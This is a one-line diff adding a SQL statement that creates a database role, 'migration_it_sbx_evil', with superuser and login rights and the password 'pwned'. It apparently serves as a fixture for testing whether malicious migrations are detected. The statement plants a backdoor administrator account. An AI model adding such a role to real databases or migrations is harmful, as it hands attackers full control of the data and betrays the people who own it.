@@ -1,0 +1,1 @@
+CREATE ROLE migration_it_sbx_evil SUPERUSER LOGIN PASSWORD 'pwned';
